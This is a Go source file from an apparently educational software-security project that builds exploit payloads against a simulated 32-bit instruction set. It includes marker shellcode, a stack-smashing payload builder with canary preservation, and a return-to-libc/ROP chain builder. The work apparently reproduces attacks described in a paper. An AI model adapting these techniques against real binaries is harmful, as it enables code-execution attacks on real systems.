package attack

import (
	"encoding/binary"

	"softsec/internal/isa"
)

// le is the byte order of SM32 (and of the paper's Figure 1).
var le = binary.LittleEndian

// PwnMarker is what the injected shellcode prints; seeing it in a victim's
// output without the program ever being asked to print it is the oracle
// for arbitrary code execution.
const PwnMarker = "PWNED!"

// PwnExitCode is the exit code the shellcode terminates with.
const PwnExitCode = 66

// ShellExitCode matches libc's spawn_shell (the return-to-libc target).
const ShellExitCode = 61

// MarkerShellcode builds position-dependent shellcode that performs
// write(1, msg, 6) then exit(66), with msg embedded right after the code.
// loadAddr must be the address where the first shellcode byte will land
// (for the classic stack smash: the address of the overflowed buffer).
func MarkerShellcode(loadAddr uint32) []byte {
	// Code layout: five MOVI (5 bytes each) + 2×INT (2 bytes each) +
	// one MOVI... assemble in two passes because the message address
	// depends on total code length.
	build := func(msgAddr uint32) []byte {
		var b []byte
		b = isa.MustEncode(b, isa.Instr{Op: isa.MOVI, Rd: isa.EBX, Imm: 1})
		b = isa.MustEncode(b, isa.Instr{Op: isa.MOVI, Rd: isa.ECX, Imm: msgAddr})
		b = isa.MustEncode(b, isa.Instr{Op: isa.MOVI, Rd: isa.EDX, Imm: uint32(len(PwnMarker))})
		b = isa.MustEncode(b, isa.Instr{Op: isa.MOVI, Rd: isa.EAX, Imm: 4}) // write
		b = isa.MustEncode(b, isa.Instr{Op: isa.INT, Imm: 0x80})
		b = isa.MustEncode(b, isa.Instr{Op: isa.MOVI, Rd: isa.EBX, Imm: PwnExitCode})
		b = isa.MustEncode(b, isa.Instr{Op: isa.MOVI, Rd: isa.EAX, Imm: 1}) // exit
		b = isa.MustEncode(b, isa.Instr{Op: isa.INT, Imm: 0x80})
		return b
	}
	codeLen := len(build(0))
	code := build(loadAddr + uint32(codeLen))
	return append(code, []byte(PwnMarker)...)
}

// SmashSpec describes a stack-smashing payload against a frame laid out in
// the paper's Figure 1 style. Offsets are relative to the start of the
// overflowed buffer.
type SmashSpec struct {
	// RetOff is the byte offset of the saved return address (for a
	// 16-byte buffer directly below the saved base pointer: 16+4 = 20).
	RetOff int
	// Ret is the value to plant there — shellcode address, libc function,
	// first gadget, ...
	Ret uint32
	// EBP is the value for the saved base pointer at RetOff-4.
	EBP uint32
	// CanaryOff, when >= 0, is the offset of the canary slot; CanaryVal
	// is written there (a leaked or guessed canary).
	CanaryOff int
	CanaryVal uint32
	// Prefix is placed at the start of the buffer (e.g. shellcode).
	Prefix []byte
	// Suffix is appended after the return address (e.g. a ROP chain or
	// shellcode that did not fit in the buffer).
	Suffix []byte
	// Filler fills unspecified bytes; 'A' when zero, like the classic
	// exploit tutorials.
	Filler byte
}

// NewSmash returns a spec for the common case: overflow a buffer of
// bufSize bytes sitting directly below the saved base pointer, planting
// ret as the return address. Without canaries RetOff = bufSize+4.
func NewSmash(bufSize int, ret uint32) *SmashSpec {
	return &SmashSpec{RetOff: bufSize + 4, Ret: ret, CanaryOff: -1, EBP: 0x42424242}
}

// WithCanary inserts a canary preservation word: when the compiler placed
// a canary at [ebp-4], the slot sits at bufSize bytes into the payload and
// the return address moves 4 bytes up.
func (s *SmashSpec) WithCanary(off int, val uint32) *SmashSpec {
	s.CanaryOff = off
	s.CanaryVal = val
	return s
}

// Build renders the payload bytes.
func (s *SmashSpec) Build() []byte {
	filler := s.Filler
	if filler == 0 {
		filler = 'A'
	}
	n := s.RetOff + 4 + len(s.Suffix)
	b := make([]byte, n)
	for i := range b {
		b[i] = filler
	}
	copy(b, s.Prefix)
	if s.RetOff >= 4 {
		le.PutUint32(b[s.RetOff-4:], s.EBP)
	}
	le.PutUint32(b[s.RetOff:], s.Ret)
	if s.CanaryOff >= 0 {
		le.PutUint32(b[s.CanaryOff:], s.CanaryVal)
	}
	copy(b[s.RetOff+4:], s.Suffix)
	return b
}

// ROPChain builds the word sequence placed above the smashed return
// address. The first word overwrites the saved return address itself; the
// rest land at successively higher stack addresses, which RET consumes in
// order.
type ROPChain struct {
	words []uint32
}

// Word appends a raw word (gadget address, argument, or junk).
func (c *ROPChain) Word(w uint32) *ROPChain {
	c.words = append(c.words, w)
	return c
}

// CallCdecl appends a return into a cdecl function with nargs arguments,
// using cleanup (a gadget popping nargs registers then returning) as the
// function's return address so the chain continues past the arguments.
// This is the classic chained return-to-libc construction.
func (c *ROPChain) CallCdecl(fn, cleanup uint32, args ...uint32) *ROPChain {
	c.Word(fn)
	c.Word(cleanup)
	for _, a := range args {
		c.Word(a)
	}
	return c
}

// FinalCall appends a return into a cdecl function that never returns
// (e.g. exit), so no cleanup gadget is needed.
func (c *ROPChain) FinalCall(fn uint32, args ...uint32) *ROPChain {
	c.Word(fn)
	c.Word(0xDEAD0000) // fake return address, never used
	for _, a := range args {
		c.Word(a)
	}
	return c
}

// First returns the first word (what to plant in the saved return
// address); Rest returns the remaining bytes (the SmashSpec suffix).
func (c *ROPChain) First() uint32 {
	if len(c.words) == 0 {
		return 0
	}
	return c.words[0]
}

// Rest renders words[1:] as bytes.
func (c *ROPChain) Rest() []byte {
	b := make([]byte, 0, 4*len(c.words))
	for _, w := range c.words[1:] {
		var tmp [4]byte
		le.PutUint32(tmp[:], w)
		b = append(b, tmp[:]...)
	}
	return b
}
